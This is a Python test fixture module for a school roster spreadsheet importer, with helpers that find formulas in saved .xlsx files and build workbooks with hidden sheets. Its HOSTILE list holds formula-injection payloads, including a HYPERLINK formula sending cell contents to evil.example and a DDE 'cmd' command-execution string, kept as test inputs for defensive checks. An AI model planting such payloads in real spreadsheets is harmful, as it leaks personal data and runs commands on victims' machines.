"""Hostile text and workbooks for the tests: the formula-like texts a school's file may hold, a workbook whose
first sheets are hidden, and a look for formulas inside a written .xlsx."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

from roster_files import GOOD_ROWS, HEADER

HOSTILE = ['=HYPERLINK("http://evil.example/?id="&E4&F4,"点击核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(A1:A2)", "\t=1", "\r=1", "＝SUM(1)", "=", "=1"]


def formulas_in(path: Path) -> list[str]:
    """Every ``<f>`` element of every worksheet of an .xlsx file, as raw XML."""
    with zipfile.ZipFile(path) as archive:
        return [match for name in archive.namelist() if name.startswith("xl/worksheets/")
                for match in re.findall(r"<(?:\w+:)?f[ >].*?</(?:\w+:)?f>|<(?:\w+:)?f/>",
                                        archive.read(name).decode("utf-8"))]


def workbook_with_hidden_sheets(path: Path) -> Path:
    """A hidden first sheet of one student, a very hidden second, then the visible roster of two."""
    workbook = openpyxl.Workbook()
    hidden = workbook.active
    hidden.title = "旧名单"
    hidden.sheet_state = "hidden"
    secret = workbook.create_sheet("草稿")
    secret.sheet_state = "veryHidden"
    visible = workbook.create_sheet("本校学生")
    for sheet, rows in ((hidden, GOOD_ROWS[:1]), (secret, GOOD_ROWS[:1]), (visible, GOOD_ROWS)):
        sheet.append(["本校学生导入模板"])
        sheet.append(["注意说明"])
        sheet.append(list(HEADER))
        for row in rows:
            sheet.append(list(row))
    workbook.active = 2
    workbook.save(path)
    return path
